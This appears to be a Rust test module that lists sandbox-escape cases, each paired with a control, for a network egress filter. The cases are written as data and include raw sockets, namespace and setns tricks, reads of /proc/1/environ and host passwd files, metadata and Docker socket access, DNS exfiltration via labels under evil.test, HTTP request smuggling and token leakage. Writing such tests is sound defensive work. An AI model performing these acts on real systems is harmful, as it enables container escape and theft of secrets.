//! Cases that need a whole sandbox: what a program tries besides speaking HTTP, TLS and DNS.
//!
//! A case with its control `beside` the sandbox is one act tried twice: outside it gets through,
//! inside it does not. The others have a permitted twin inside. `optional` says that the control
//! may be missing on some kernels, for some users; such a case is held all the same, and counts
//! only with it.

use crate::hex;
use crate::outside::MARK;
use serde_json::{Value, json};

fn beside(name: &str, act: Value) -> Value {
    json!({ "name": name, "attack": act, "control": act, "end": "held", "beside": true })
}

/// The same where the control may be missing.
fn perhaps(name: &str, act: Value) -> Value {
    let mut case = beside(name, act);
    case["optional"] = true.into();
    case
}

fn get() -> Value {
    json!({ "do": "http", "host": "ok.test", "text": "GET / HTTP/1.1\r\nHost: ok.test\r\n\r\n" })
}

/// A case whose twin is a plain permitted request.
fn twin(name: &str, attack: Value, end: Value) -> Value {
    json!({ "name": name, "attack": attack, "control": get(), "end": end, "beside": false })
}

/// A case of which so many requests are permitted.
fn partly(name: &str, attack: Value, end: Value, requests: u64) -> Value {
    let mut case = twin(name, attack, end);
    case["requests"] = requests.into();
    case
}

pub(crate) fn cases() -> Vec<Value> {
    let parts = [
        datagrams(),
        below_ip(),
        sockets(),
        kernel(),
        connections(),
        host(),
        names(),
        rebinding(),
        proxies(),
        redirects(),
        pipelines(),
        secrets(),
    ];
    parts.into_iter().flatten().collect()
}

/// What is UDP and no question for a name.
fn datagrams() -> Vec<Value> {
    let list = [
        ("N7 QUIC", "1.1.1.1", 443),
        ("N7 QUIC to a permitted host", "93.184.216.34", 443),
        ("N7 QUIC over v6", "2606:4700::1111", 443),
        ("N7 QUIC to a mapped address", "::ffff:1.1.1.1", 443),
        ("N8 DNS at another port", "8.8.8.8", 5353),
        ("N8 DNS over QUIC", "9.9.9.9", 853),
        ("N11 time by NTP", "162.159.200.1", 123),
        ("N11 SNMP to a private address", "10.0.0.1", 161),
        ("N11 syslog", "10.0.0.1", 514),
        ("N11 WireGuard", "203.0.113.7", 51820),
        ("N27 metadata by UDP", "169.254.169.254", 80),
        ("N28 a host's UDP service", "192.168.1.1", 69),
    ];
    let mut cases = Vec::new();
    for (name, ip, port) in list {
        cases.push(beside(name, json!({ "do": "datagram", "ip": ip, "port": port })));
        let act = json!({ "do": "datagram", "ip": ip, "port": port, "connected": true });
        cases.push(beside(&format!("{name}, connected"), act));
    }
    let lite = json!({ "do": "datagram", "ip": "1.1.1.1", "port": 443, "protocol": 136 });
    cases.push(perhaps("N12 UDP-Lite", lite));
    let all = json!({ "do": "datagram", "ip": "255.255.255.255", "port": 67, "broadcast": true });
    cases.push(perhaps("N12 broadcast", all));
    let many = json!({ "do": "datagram", "ip": "224.0.0.251", "port": 5353 });
    cases.push(perhaps("N12 multicast", many));
    cases
}

/// Protocols beside TCP and UDP, by hand.
fn below_ip() -> Vec<Value> {
    let list = [
        ("N11 echo request", "1.1.1.1", 1, "0800f7ff00000000"),
        ("N11 echo request with data", "1.1.1.1", 1, "080053554d5547474c4544"),
        ("N11 echo request over v6", "2606:4700::1111", 58, "8000000000000000"),
        ("N12 raw TCP", "1.1.1.1", 6, "04000050000000010000000050020fff00000000"),
        ("N12 raw UDP", "1.1.1.1", 17, "040001bb00080000"),
        ("N12 IP in IP", "1.1.1.1", 4, "4500001400000000400600000a0000010a000002"),
        ("N12 GRE", "1.1.1.1", 47, "00000800"),
        ("N12 SCTP by hand", "1.1.1.1", 132, "04000050000000000000000001000014"),
        ("N12 ESP", "1.1.1.1", 50, "0000000100000001"),
        ("N12 an unused protocol", "1.1.1.1", 253, "534d5547474c4544"),
    ];
    let of = |(name, ip, protocol, bytes): (&str, &str, u8, &str)| {
        beside(name, json!({ "do": "raw", "ip": ip, "protocol": protocol, "bytes": bytes }))
    };
    list.map(of).into()
}

/// Kinds of sockets that lead round the boundary, or into the kernel's tables.
fn sockets() -> Vec<Value> {
    let list = [
        ("N12 packet socket", 17, 3, 0x0300, true),
        ("N12 packet socket, cooked", 17, 2, 0x0300, true),
        ("N12 netlink netfilter", 16, 3, 12, true),
        ("N12 netlink xfrm", 16, 3, 6, false),
        ("N12 netlink sock_diag", 16, 3, 4, true),
        ("N12 netlink generic", 16, 3, 16, true),
        ("N12 netlink audit", 16, 3, 9, false),
        ("N12 netlink uevent", 16, 2, 15, true),
        ("N12 ping socket", 2, 2, 1, false),
        ("N12 MPTCP", 2, 1, 262, false),
        ("N12 SCTP", 2, 1, 132, false),
        ("N12 SCTP, one to many", 2, 5, 132, false),
        ("N12 DCCP", 2, 6, 33, false),
        ("N12 host socket", 40, 1, 0, false),
        ("N12 host socket, datagrams", 40, 2, 0, false),
        ("N12 AF_XDP", 44, 3, 0, false),
        ("N12 AF_KEY", 15, 3, 2, false),
        ("N12 AF_ALG", 38, 5, 0, false),
        ("N12 Bluetooth", 31, 3, 1, false),
        ("N12 CAN", 29, 3, 1, false),
        ("N12 RDS", 21, 5, 0, false),
        ("N12 TIPC", 30, 2, 0, false),
        ("N12 SMC", 43, 1, 0, false),
        ("N12 KCM", 41, 2, 0, false),
    ];
    let of = |(name, family, kind, protocol, sure): (&str, u8, u8, u32, bool)| {
        let act =
            json!({ "do": "open_socket", "family": family, "type": kind, "protocol": protocol });
        if sure { beside(name, act) } else { perhaps(name, act) }
    };
    let mut cases: Vec<Value> = list.map(of).into();
    cases.push(beside("N12 packet socket on loopback", json!({ "do": "packet", "type": 3 })));
    cases
}

/// Namespaces and tables of the kernel.
fn kernel() -> Vec<Value> {
    let unshare = |name: &str, flags: u32| beside(name, json!({ "do": "unshare", "flags": flags }));
    let netlink = |name: &str, protocol: u8, message: u16, bytes: &str| {
        beside(
            name,
            json!({ "do": "netlink", "protocol": protocol, "message": message, "bytes": bytes, "flags": 0x0405 }),
        )
    };
    vec![
        unshare("N18 a user namespace", 0x1000_0000),
        unshare("N18 a user and a network namespace", 0x5000_0000),
        unshare("N18 a network namespace", 0x4000_0000),
        unshare("N18 a mount namespace", 0x0002_0000),
        beside(
            "N19 its own network namespace again",
            json!({ "do": "setns", "path": "/proc/self/ns/net" }),
        ),
        perhaps("N19 init's network namespace", json!({ "do": "setns", "path": "/proc/1/ns/net" })),
        perhaps("N19 init's mounts", json!({ "do": "setns", "path": "/proc/1/ns/mnt" })),
        netlink("N22 a route", 0, 24, "02180000fe04fd010000000008000100cb0071000800040001000000"),
        netlink("N22 an address", 0, 20, "022000000100000008000200c6120001"),
        netlink(
            "N22 another limit of the interface",
            0,
            16,
            "0000000001000000000000000000000008000400e8fd0000",
        ),
        beside(
            "N22 the tables of nftables",
            json!({ "do": "netlink", "protocol": 12, "message": 2561, "bytes": "00000000", "flags": 0x301 }),
        ),
        beside(
            "N22 forwarding",
            json!({ "do": "write_file", "path": "/proc/sys/net/ipv4/ip_forward" }),
        ),
        beside(
            "N22 forwarding over v6",
            json!({ "do": "write_file", "path": "/proc/sys/net/ipv6/conf/all/forwarding" }),
        ),
        beside(
            "D11 another name server",
            json!({ "do": "write_file", "path": "/etc/resolv.conf" }),
        ),
        perhaps(
            "C7 variables of the first process",
            json!({ "do": "read_file", "path": "/proc/1/environ" }),
        ),
        perhaps(
            "N24 the host's root by way of init",
            json!({ "do": "read_file", "path": "/proc/1/root/etc/passwd" }),
        ),
    ]
}

/// Connections that a program dresses up.
fn connections() -> Vec<Value> {
    let bytes = hex(b"GET / HTTP/1.1\r\nHost: 1.1.1.1\r\n\r\n");
    let dressed = |option: &str| json!({ "do": "http_at", "ip": "1.1.1.1", "port": 80, "bytes": bytes, "options": [option] });
    let tcp = |name: &str, ip: &str, port: u16| {
        beside(name, json!({ "do": "tcp", "ip": ip, "port": port }))
    };
    let direct = |name: &str, ip: &str, port: u16| {
        let bytes = hex(format!("GET / HTTP/1.1\r\nHost: {ip}\r\n\r\n").as_bytes());
        beside(name, json!({ "do": "http_at", "ip": ip, "port": port, "bytes": bytes }))
    };
    let own = |name: &str, port: u16| {
        let bytes = hex(b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n");
        let act = json!({ "do": "http_at", "ip": "127.0.0.1", "port": port, "bytes": bytes });
        twin(name, act, "held".into())
    };
    vec![
        beside("N16 fast open", dressed("fastopen")),
        beside("N20 a mark", dressed("mark")),
        beside("N20 bound to a device", dressed("device")),
        beside("N20 transparent", dressed("transparent")),
        beside("N20 bound to a foreign address", dressed("freebind")),
        beside("N20 bound to an address of its own", dressed("source")),
        beside("N20 without routing", dressed("route")),
        perhaps("N20 from the listener's own port", dressed("reuse")),
        perhaps("N20 MPTCP connection", dressed("mptcp")),
        direct("N15 no proxy, public address", "1.1.1.1", 80),
        direct("N15 no proxy, private address", "10.0.0.1", 80),
        direct("N15 no proxy, v6", "2606:4700::1111", 80),
        direct("N15 no proxy, other port", "1.1.1.1", 8080),
        direct("N27 metadata of a cloud", "169.254.169.254", 80),
        direct("N28 the host's gateway", "172.17.0.1", 80),
        direct("N29 a cluster's interface", "10.96.0.1", 443),
        direct("N30 a neighbour", "192.0.2.1", 80),
        tcp("N10 bytes of nobody's protocol", "1.1.1.1", 7070),
        tcp("N10 the same over v6", "2606:4700::1111", 7070),
        tcp("N10 the same to a permitted host", "93.184.216.34", 7070),
        tcp("N10 the same to a private address", "10.1.2.3", 7070),
        tcp("N9 DNS over TLS's port", "9.9.9.9", 853),
        tcp("N23 a service on the host's loopback", "127.0.0.1", 7070),
        tcp("N23 the same over v6", "::1", 7070),
        tcp("N23 the same at another address", "127.0.0.53", 7070),
        own("N21 the redirection's listener", 15_001),
        json!({
            "name": "N21 the name listener", "end": "refused", "beside": false, "control": get(),
            "attack": {
                "do": "dns", "labels": [hex(b"evil"), hex(b"test")], "kind": 1,
                "server": "127.0.0.1", "port": 15_053, "tcp": true,
            },
        }),
    ]
}

/// What a careless host leaves about.
fn host() -> Vec<Value> {
    let back = |name: &str, listens: &str, ip: &str| {
        json!({
            "name": name, "end": "closed", "beside": true, "own": true,
            "before": [{ "do": "listen", "ip": listens, "port": 7777 }],
            "attack": { "do": "from_outside", "ip": ip, "port": 7777 },
            "control": { "do": "from_outside", "ip": ip, "port": 7777 },
        })
    };
    vec![
        beside("N24 a Unix socket", json!({ "do": "unix", "path": "{socket}" })),
        beside("N24 an abstract socket", json!({ "do": "unix", "path": "@{abstract}" })),
        beside(
            "N24 a socket named by a variable",
            json!({ "do": "by_variable", "name": "SSH_AUTH_SOCK" }),
        ),
        perhaps("N24 the container engine", json!({ "do": "unix", "path": "/run/docker.sock" })),
        perhaps(
            "N24 the system bus",
            json!({ "do": "unix", "path": "/run/dbus/system_bus_socket" }),
        ),
        beside("N25 an inherited connection", json!({ "do": "descriptor", "number": 77 })),
        beside(
            "N25 an inherited directory",
            json!({ "do": "unix", "path": "/proc/self/fd/100{socket}" }),
        ),
        back("N26 a port as the way back", "0.0.0.0", "127.0.0.1"),
        back("N26 the same over v6", "::1", "::1"),
    ]
}

/// Names that nobody permits, whoever is asked for them and however.
fn names() -> Vec<Value> {
    let hosts = [
        ("N27 metadata by its name", "metadata.google.internal"),
        ("N28 the host by its name", "host.docker.internal"),
        ("N28 the gateway by its name", "gateway.docker.internal"),
        ("N29 a cluster's name", "kubernetes.default.svc"),
        ("N10 DoH by its name", "dns.google"),
        ("N10 DoH by another", "cloudflare-dns.com"),
        ("D1 data as a label", "534d5547474c4544.evil.test"),
        (
            "D1 data as three labels",
            "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.bbbbbbbbbbbbbbbbbb.ccccccc.evil.test",
        ),
        ("D5 mixed case", "eViL.TeSt"),
        ("D14 a permitted name as a label", "ok.test.evil.test"),
        ("D14 a permitted name as a suffix of a label", "evilok.test"),
        ("D14 punycode", "xn--k-hmb.test"),
    ];
    let mut cases = Vec::new();
    for (name, host) in hosts {
        let text = format!("GET / HTTP/1.1\r\nHost: {host}\r\n\r\n");
        let act = json!({ "do": "http", "host": host, "text": text });
        cases.push(twin(name, act, "closed".into()));
    }
    let labels =
        |name: &str| -> Vec<String> { name.split('.').map(|l| hex(l.as_bytes())).collect() };
    let servers = [
        ("D3 Google's resolver", "8.8.8.8", false),
        ("D3 Google's resolver by TCP", "8.8.8.8", true),
        ("D3 Cloudflare's resolver", "1.1.1.1", false),
        ("D3 the real resolver", "9.9.9.9", false),
        ("D3 the real resolver by TCP", "9.9.9.9", true),
        ("D3 a resolver over v6", "2001:4860:4860::8888", false),
        ("D3 a resolver over v6 by TCP", "2001:4860:4860::8888", true),
        ("D3 the local stub", "127.0.0.53", false),
        ("D3 a private resolver", "10.0.0.2", false),
    ];
    for (name, server, tcp) in servers {
        let ask = |host: &str| json!({ "do": "dns", "labels": labels(host), "kind": 1, "server": server, "tcp": tcp });
        let (attack, control) = (ask("smuggled.evil.test"), ask("ok.test"));
        cases.push(json!({ "name": name, "attack": attack, "control": control, "end": "refused", "beside": false }));
    }
    let kinds = [
        ("NS", 2),
        ("CNAME", 5),
        ("SOA", 6),
        ("MX", 15),
        ("SRV", 33),
        ("DNSKEY", 48),
        ("AXFR", 252),
        ("CAA", 257),
    ];
    for (kind, number) in kinds {
        let ask =
            |host: &str, kind: u16| json!({ "do": "dns", "labels": labels(host), "kind": kind });
        let (attack, control) = (ask("evil.test", number), ask("ok.test", 1));
        let name = format!("D4 {kind} of a denied name");
        cases.push(json!({ "name": name, "attack": attack, "control": control, "end": "nothing", "beside": false }));
    }
    let chaos = json!({ "do": "dns", "labels": labels("version.bind"), "kind": 16, "class": 3 });
    cases.push(twin("D4 another class", chaos, "nothing".into()));
    cases
}

/// Permitted names whose authoritative server says something else.
fn rebinding() -> Vec<Value> {
    let list = [
        ("D8 an alias to an internal name", "cname.ok.test"),
        ("D6 the unspecified address", "unspecified.ok.test"),
        ("D6 a link's own address", "linklocal.ok.test"),
        ("D6 a carrier's private address", "cgnat.ok.test"),
        ("D6 a private v6 address", "ula.ok.test"),
        ("D6 v6 loopback", "v6loop.ok.test"),
        ("D6 multicast", "multicast.ok.test"),
    ];
    let of = |(name, host): (&str, &str)| {
        let text = format!("GET / HTTP/1.1\r\nHost: {host}\r\n\r\n");
        twin(name, json!({ "do": "http", "host": host, "text": text }), "unreachable".into())
    };
    list.map(of).into()
}

/// Proxies that somebody offers.
fn proxies() -> Vec<Value> {
    let ask = |name: &str, text: &str| {
        beside(name, json!({ "do": "http_at", "ip": "10.0.0.1", "port": 3128, "text": text }))
    };
    let by = |name: &str, variable: &str, proxy: &str, url: &str| {
        beside(name, json!({ "do": "fetch", "url": url, "env": { variable: proxy } }))
    };
    vec![
        ask("N31 CONNECT at a proxy", "CONNECT 1.1.1.1:443 HTTP/1.1\r\nHost: 1.1.1.1:443\r\n\r\n"),
        ask(
            "N31 absolute form at a proxy",
            "GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n",
        ),
        ask(
            "N31 a permitted name at a proxy",
            "GET http://ok.test/ HTTP/1.1\r\nHost: ok.test\r\n\r\n",
        ),
        by("N31 proxy variable", "http_proxy", "http://10.0.0.1:3128", "http://evil.test/"),
        by("N31 proxy variable, public", "http_proxy", "http://1.1.1.1:3128", "http://evil.test/"),
        by("N31 proxy variable for all", "all_proxy", "http://10.0.0.1:3128", "http://1.1.1.1/"),
        by("N13 proxies ignored", "no_proxy", "*", "http://1.1.1.1/"),
        by("N13 proxies ignored, v6", "no_proxy", "*", "http://[2606:4700::1111]/"),
    ]
}

/// Redirects of a permitted host.
fn redirects() -> Vec<Value> {
    let to = |target: &str| {
        let url = format!("http://ok.test/to/{}", hex(target.as_bytes()));
        json!({ "do": "fetch", "url": url, "headers": { "authorization": "Bearer {TOKEN}" } })
    };
    let list = [
        ("H21 redirect to a denied name", "http://evil.test/"),
        ("H21 redirect to metadata", "http://169.254.169.254/latest/"),
        ("H21 redirect to a private address", "http://10.0.0.1/"),
        ("H21 redirect to a public address", "http://1.1.1.1/"),
        ("H21 redirect to loopback", "http://127.0.0.1:7070/"),
        ("H21 redirect to a denied path", "http://ok.test/denied"),
        ("H21 redirect to a denied path, hidden", "http://ok.test/a/%2e%2e/denied"),
        ("H21 redirect to userinfo", "http://ok.test@evil.test/"),
        ("H21 redirect over TLS", "https://evil.test/"),
    ];
    let mut cases: Vec<Value> =
        list.map(|(name, target)| partly(name, to(target), "held".into(), 1)).into();
    let twin = to("http://ok.test/there");
    cases.iter_mut().for_each(|case| case["control"] = twin.clone());
    // Permitted, with the placeholder as it is.
    cases.push(partly(
        "H22 credential across a redirect",
        to("http://secret.ok.test/"),
        200.into(),
        2,
    ));
    cases
}

/// A second request behind a first.
fn pipelines() -> Vec<Value> {
    let get = "GET / HTTP/1.1\r\nHost: ok.test\r\n";
    let denied = format!("GET /denied HTTP/1.1\r\nHost: ok.test\r\nX-Mark: {MARK}\r\n\r\n");
    let evil = format!("GET /{MARK} HTTP/1.1\r\nHost: evil.test\r\n\r\n");
    let upgrade = "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\
                   Sec-WebSocket-Version: 13\r\n";
    let post = |case: &str| format!("POST /?{case} HTTP/1.1\r\nHost: ok.test\r\n");
    let list = [
        ("H13 a denied path behind", format!("{get}\r\n{denied}")),
        ("H13 another host behind", format!("{get}\r\n{evil}")),
        (
            "H13 a denied path behind a body",
            format!("{}Content-Length: 3\r\n\r\nabc{denied}", post("length")),
        ),
        (
            "H13 a denied path behind chunks",
            format!(
                "{}Transfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\n\r\n{denied}",
                post("chunks")
            ),
        ),
        ("H14 a denied path behind an upgrade that fails", format!("{get}{upgrade}\r\n{denied}")),
    ];
    let of = |(name, text): (&str, String)| {
        partly(name, json!({ "do": "http", "host": "ok.test", "text": text }), 200.into(), 1)
    };
    let mut cases: Vec<Value> = list.map(of).into();
    // The same a few bytes at a time.
    let whole = format!("GET /denied HTTP/1.1\r\nHost: ok.test\r\nX-Mark: {MARK}\r\n\r\n");
    let pieces: Vec<String> = whole.as_bytes().chunks(3).map(hex).collect();
    cases.push(twin(
        "H15 denied in pieces",
        json!({ "do": "http", "host": "ok.test", "pieces": pieces }),
        403.into(),
    ));
    cases
}

/// A secret where it may not go. The server sends back what it got, so an answer shows it too.
fn secrets() -> Vec<Value> {
    let control = json!({
        "do": "http", "host": "ok.test",
        "text": "GET /?t={TOKEN} HTTP/1.1\r\nHost: ok.test\r\nAuthorization: Bearer {TOKEN}\r\n\r\n",
    });
    let of = |name: &str, head: &str| {
        let text = format!("{head}Host: secret.ok.test\r\n\r\n");
        let act = json!({ "do": "http", "host": "secret.ok.test", "text": text });
        let mut case = partly(name, act, 200.into(), 1);
        case["control"] = control.clone();
        case
    };
    vec![
        of(
            "C1 a secret to another permitted host",
            "GET / HTTP/1.1\r\nAuthorization: Bearer {TOKEN}\r\n",
        ),
        of("C2 a secret in a query", "GET /?t={TOKEN} HTTP/1.1\r\n"),
        of("C2 a secret in a path", "GET /{TOKEN} HTTP/1.1\r\n"),
        of("C2 a secret twice", "GET / HTTP/1.1\r\nX-A: {TOKEN}\r\nX-B: {TOKEN}{TOKEN}\r\n"),
    ]
}
